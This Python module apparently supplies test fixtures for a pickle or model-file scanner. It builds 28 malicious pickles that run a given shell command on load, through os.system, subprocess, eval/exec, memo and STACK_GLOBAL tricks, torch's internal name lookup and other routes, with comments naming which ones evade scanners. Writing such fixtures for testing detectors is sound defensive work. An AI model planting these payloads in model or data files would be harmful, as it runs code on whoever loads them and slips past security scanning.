"""Pickles that run code when Python's pickle reads them, as attacks do.

Each holds, beside its trick, the tensor 'w'. ``command`` is what it would run.
"""

from __future__ import annotations

import pickle
from collections.abc import Callable

from hostile.files import (
    call,
    dict_,
    get,
    global_,
    integer,
    list_,
    put,
    tensor,
    text,
    tuple_,
)

Trick = Callable[[str], bytes]


def beside_a_tensor(trick: bytes) -> bytes:
    return dict_(text("trick"), trick, text("w"), tensor())


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def python(command: str) -> str:
    return f"__import__('os').system({command!r})"


def os_system(command: str) -> bytes:
    return beside_a_tensor(call(global_("os", "system"), text(command)))


def posix_system(command: str) -> bytes:
    return beside_a_tensor(call(global_("posix", "system"), text(command)))


def subprocess_popen(command: str) -> bytes:
    arguments = list_(text("sh"), text("-c"), text(command))
    return beside_a_tensor(call(global_("subprocess", "check_output"), arguments))


def builtins_eval(command: str) -> bytes:
    return beside_a_tensor(call(global_("builtins", "eval"), text(python(command))))


def python_2_eval(command: str) -> bytes:
    """The name of builtins in protocols 0 to 2."""
    return beside_a_tensor(call(global_("__builtin__", "eval"), text(python(command))))


def builtins_exec(command: str) -> bytes:
    return beside_a_tensor(call(global_("builtins", "exec"), text(python(command))))


def runpy_run_code(command: str) -> bytes:
    code = call(
        global_("builtins", "compile"), text(python(command)), text(""), text("exec")
    )
    return beside_a_tensor(call(global_("runpy", "_run_code"), code, b"}"))


def nested_reduce(command: str) -> bytes:
    """getattr(__import__('os'), 'system')(command): what is called is a result."""
    module = call(global_("builtins", "__import__"), text("os"))
    function = call(global_("builtins", "getattr"), module, text("system"))
    return beside_a_tensor(call(function, text(command)))


def pickle_in_a_pickle(command: str) -> bytes:
    inner = b"\x80\x02" + call(global_("os", "system"), text(command)) + b"."
    data = b"B" + len(inner).to_bytes(4, "little") + inner
    return beside_a_tensor(call(global_("pickle", "loads"), data))


def stack_global(command: str) -> bytes:
    function = short("os") + short("system") + b"\x93"
    return b"\x80\x04" + beside_a_tensor(call(function, text(command))) + b"."


def stack_global_with_dots(command: str) -> bytes:
    """From protocol 4 on, a name may reach into what a module holds."""
    function = short("shutil") + short("os.system") + b"\x93"
    return b"\x80\x04" + beside_a_tensor(call(function, text(command))) + b"."


def stack_global_from_the_memo(command: str) -> bytes:
    """Names that stand elsewhere, which a scan for GLOBAL does not see."""
    names = list_(short("system") + put(1), short("os") + put(2))
    function = get(2) + get(1) + b"\x93"
    value = dict_(
        text("names"),
        names,
        text("f"),
        call(function, text(command)),
        text("w"),
        tensor(),
    )
    return b"\x80\x04" + value + b"."


def global_from_the_memo(command: str) -> bytes:
    """A memo that is written over: harmless where it is stored first."""
    first = global_("builtins", "len") + put(1) + b"0"
    second = global_("os", "system") + put(1) + b"0"
    return first + second + beside_a_tensor(call(get(1), text(command)))


def hidden_by_a_pop(command: str) -> bytes:
    """Nothing of it is left in the value."""
    return (
        call(global_("os", "system"), text(command)) + b"0" + dict_(text("w"), tensor())
    )


def inst(command: str) -> bytes:
    return beside_a_tensor(b"(" + text(command) + b"ios\nsystem\n")


def obj(command: str) -> bytes:
    arguments = list_(text("sh"), text("-c"), text(command))
    waiting = global_("subprocess", "Popen") + arguments
    # Popen does not wait; communicate() does.
    process = b"(" + waiting + b"o"
    method = call(global_("builtins", "getattr"), process, text("communicate"))
    return beside_a_tensor(call(method))


def newobj(command: str) -> bytes:
    """A class whose __new__ is called: eval through map, consumed by list."""
    calls = (
        global_("builtins", "map")
        + tuple_(global_("os", "system"), list_(text(command)))
        + b"\x81"
    )
    return beside_a_tensor(call(global_("builtins", "list"), calls))


def newobj_ex(command: str) -> bytes:
    calls = (
        global_("builtins", "map")
        + tuple_(global_("os", "system"), list_(text(command)))
        + b"}\x92"
    )
    value = beside_a_tensor(call(global_("builtins", "list"), calls))
    return b"\x80\x04" + value + b"."


def build_with_a_state(command: str) -> bytes:
    """partial.__setstate__ makes a harmless partial into another."""
    harmless = call(global_("functools", "partial"), global_("builtins", "len"))
    state = tuple_(global_("os", "system"), tuple_(text(command)), b"}", b"}")
    return beside_a_tensor(call(harmless + state + b"b"))


def build_a_class(command: str) -> bytes:
    """The state of an object of a class that has its own __setstate__."""
    member = call(global_("types", "SimpleNamespace"))
    state = dict_(text("f"), call(global_("os", "system"), text(command)))
    return beside_a_tensor(member + state + b"b")


def reduce_in_a_key(command: str) -> bytes:
    key = call(global_("os", "system"), text(command))
    return dict_(key, integer(1), text("w"), tensor())


def reduce_in_a_tuple_key(command: str) -> bytes:
    key = tuple_(integer(1), call(global_("os", "system"), text(command)))
    return dict_(key, integer(1), text("w"), tensor())


def reduce_in_a_set(command: str) -> bytes:
    value = b"\x8f(" + call(global_("os", "system"), text(command)) + b"\x90"
    return b"\x80\x04" + beside_a_tensor(value) + b"."


def append_to_an_object(command: str) -> bytes:
    """APPENDS calls the object's extend."""
    queue = call(global_("collections", "deque"))
    items = b"(" + call(global_("os", "system"), text(command)) + b"e"
    return beside_a_tensor(queue + items)


def a_default_factory(command: str) -> bytes:
    """defaultdict(partial(os.system, command))[missing]: run by a look-up."""
    factory = call(
        global_("functools", "partial"), global_("os", "system"), text(command)
    )
    made = call(global_("collections", "defaultdict"), factory)
    looked_up = call(global_("operator", "getitem"), made, text("missing"))
    return beside_a_tensor(looked_up)


def torch_load(command: str) -> bytes:
    """Through torch's own names, which scanners of files let pass."""
    function = global_("torch._utils", "_import_dotted_name")
    system = call(function, text("os.system"))
    return beside_a_tensor(call(system, text(command)))


def protocol_0(command: str) -> bytes:
    trick = f"cos\nsystem\n(V{command}\ntR".encode()
    return beside_a_tensor(trick)


def opaque_reduce(command: str) -> bytes:
    """As Python writes it, of a class with a __reduce__."""

    class Malice:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return eval, (python(command),)

    written = pickle.dumps(Malice(), protocol=2)
    return beside_a_tensor(written[2:-1])


TRICKS: list[Trick] = [
    os_system,
    posix_system,
    subprocess_popen,
    builtins_eval,
    python_2_eval,
    builtins_exec,
    runpy_run_code,
    nested_reduce,
    pickle_in_a_pickle,
    stack_global,
    stack_global_with_dots,
    stack_global_from_the_memo,
    global_from_the_memo,
    hidden_by_a_pop,
    inst,
    obj,
    newobj,
    newobj_ex,
    build_with_a_state,
    build_a_class,
    reduce_in_a_key,
    reduce_in_a_tuple_key,
    reduce_in_a_set,
    append_to_an_object,
    a_default_factory,
    torch_load,
    protocol_0,
    opaque_reduce,
]
